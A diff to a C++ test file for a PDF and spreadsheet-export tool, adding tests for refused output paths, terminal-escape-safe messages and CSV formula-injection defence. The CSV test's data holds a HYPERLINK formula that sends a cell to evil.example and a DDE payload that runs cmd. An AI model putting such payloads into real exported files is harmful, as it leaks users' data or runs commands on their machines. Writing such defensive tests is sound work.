@@ -31,8 +31,13 @@ struct ToolRun {
     std::string out, err;
 };
 
-ToolRun run(const QString& program, const QStringList& args, const std::string& input = {}) {
+// `input` on standard input, or with `from`, the file of that name; in the
+// folder `in` when given.
+ToolRun run(const QString& program, const QStringList& args, const std::string& input = {}, const QString& from = {},
+            const QString& in = {}) {
     QProcess p;
+    if (!from.isEmpty()) p.setStandardInputFile(from);
+    p.setWorkingDirectory(in);
     p.start(program, args);
     if (!p.waitForStarted()) return {};
     p.write(input.data(), static_cast<qint64>(input.size()));
@@ -243,24 +248,74 @@ TEST(PrintedSheet, KindOfAnItemBesideACheckBoxFollowsTheBox) {
 }  // namespace
 
 // What is not a regular file is refused at once (a device never ends); the
-// output is never the job itself, a device is written to and not replaced, "-"
-// is standard output; a job with actions is refused as the program refuses it.
+// output is never the job itself, also when the job comes on standard input
+// from that file; a folder is no output; a device is written to and not
+// replaced, "-" is standard output; a job with actions is refused as the
+// program refuses it; "--" ends the options; a path in a message cannot break
+// the line or colour the terminal.
 TEST(PrintedSheet, PathsAndJobsTheToolMustNotTake) {
     QTemporaryDir dir;
     const QString job = dir.filePath("j.json"), pdf = dir.filePath("a.pdf");
     const std::string sheet = R"({"sheets": {"A2": {"Text1": "10"}}})";
-    QFile f(job);
-    ASSERT_TRUE(f.open(QIODevice::WriteOnly) && f.write(sheet.data()) > 0 && f.flush());
-    for (const auto& [args, input, err] : std::vector<std::tuple<QStringList, std::string, std::string>>{
-             {{"/dev/zero", "-o", pdf}, "", "：不是普通文件\n"},
-             {{job, "-o", dir.path() + "/../" + QDir(dir.path()).dirName() + "/j.json"}, "", "：输出文件就是计算文件本身\n"},
-             {{"-", "-o", pdf}, R"({"sheets": {"A2": {}}, "actions": ["A1"]})", "请先用 lingchuan-calc run 执行\n"},
-             {{job, "-o", "/dev/null"}, "", ""},
-             {{job, "-o", "-"}, "", ""}}) {
-        const ToolRun r = run(kReport, args, input);
-        EXPECT_TRUE(r.status == (err.empty() ? 0 : 2) && r.err.ends_with(err) && std::count(r.err.begin(), r.err.end(), '\n') == !err.empty()) << r.err;
-        EXPECT_EQ(r.out.rfind("%PDF-", 0) == 0, args.back() == "-");
+    for (const QString& name : {job, dir.filePath("-x.json")}) {
+        QFile f(name);
+        ASSERT_TRUE(f.open(QIODevice::WriteOnly) && f.write(sheet.data()) > 0 && f.flush());
+    }
+    for (const auto& [args, input, status, err] : std::vector<std::tuple<QStringList, std::string, int, std::string>>{
+             {{"/dev/zero", "-o", pdf}, "", 2, "：不是普通文件\n"},
+             {{job, "-o", dir.path() + "/../" + QDir(dir.path()).dirName() + "/j.json"}, "", 2, "：输出文件就是计算文件本身\n"},
+             {{"-", "-o", job}, "<", 2, "j.json：输出文件就是计算文件本身\n"},
+             {{job, "-o", dir.path()}, "", 1, "：无法写出PDF：这是一个文件夹，不是文件。\n"},
+             {{job, "-o", dir.filePath("a\nb\x1b[31m\u202e/x.pdf")}, "", 1, "/a\\x0Ab\\x1B[31m\\u202E/x.pdf：无法写出PDF：文件夹不存在。\n"},
+             {{"-", "-o", pdf}, R"({"sheets": {"A2": {}}, "actions": ["A1"]})", 2, "请先用 lingchuan-calc run 执行\n"},
+             {{"-x.json", "-o", pdf}, "", 2, "多余的参数“-x.json”（见 --help）\n"},
+             {{"-o", "-", "--", "-x.json"}, "", 0, ""},
+             {{job, "-o", "/dev/null"}, "", 0, ""},
+             {{job, "-o", "-"}, "", 0, ""}}) {
+        const ToolRun r = run(kReport, args, input, input == "<" ? job : QString(), dir.path());
+        EXPECT_TRUE(r.status == status && r.err.ends_with(err) && std::count(r.err.begin(), r.err.end(), '\n') == !err.empty())
+            << args.join(' ').toStdString() << ": " << r.err;
+        EXPECT_EQ(r.out.rfind("%PDF-", 0) == 0, args.at(args.indexOf("-o") + 1) == "-");
     }
     EXPECT_EQ(QFileInfo(job).size(), static_cast<qint64>(sheet.size())) << "the job is intact";
     EXPECT_FALSE(QFile::exists(pdf) || QFileInfo("/dev/null").isFile()) << "no PDF, and the device still a device";
+}
+
+// Cells are data: read back by Python's csv module, as a spreadsheet reads
+// them, a formula-like text stands after an apostrophe and a number as it is,
+// in the CSV file and in the copied (tab-separated) table alike.
+TEST(CopiedTable, FormulaLikeTextsBecomeTextCells) {
+    const std::pair<std::string, std::string> cells[] = {
+        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"10\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"10\")"},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"-1+1", "'-1+1"},
+        {"\t=1", "'\t=1"},
+        {"\r=1", "'\r=1"},
+        {"-0.5", "-0.5"},
+        {"-2", "-2"},
+        {"1e5", "1e5"},
+        {"+1.5E-3", "+1.5E-3"},
+        {"齿数", "齿数"},
+    };
+    lc::Workbook wb;
+    lc::Sheet& a2 = wb.sheet(lc::SheetId::A2);
+    for (std::size_t i = 0; i < std::size(cells); ++i) a2.setText("Text" + std::to_string(i + 1), cells[i].first);
+    QTemporaryDir dir;
+    for (const auto& [separator, bytes] : {std::pair{",", lc::commaSeparated(wb, lc::SheetId::A2)},
+                                           std::pair{"\t", lc::tabSeparated(wb, lc::SheetId::A2)}}) {
+        QFile f(dir.filePath("t"));
+        ASSERT_TRUE(f.open(QIODevice::WriteOnly) && f.write(bytes.data(), static_cast<qint64>(bytes.size())) > 0);
+        f.close();
+        const ToolRun py = run("python3", {"-c", "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], "
+                                                 "newline='', encoding='utf-8-sig'), delimiter=sys.argv[2]))))",
+                                           f.fileName(), separator});
+        ASSERT_EQ(py.status, 0) << py.err;
+        const Json rows = Json::parse(py.out);
+        for (std::size_t i = 0; i < std::size(cells); ++i) {
+            const auto row = std::find_if(rows.begin(), rows.end(), [&](const Json& r) { return r[0] == std::to_string(i + 1); });
+            ASSERT_NE(row, rows.end()) << i;
+            EXPECT_EQ((*row)[3], cells[i].second) << separator << " " << cells[i].first;
+        }
+    }
 }
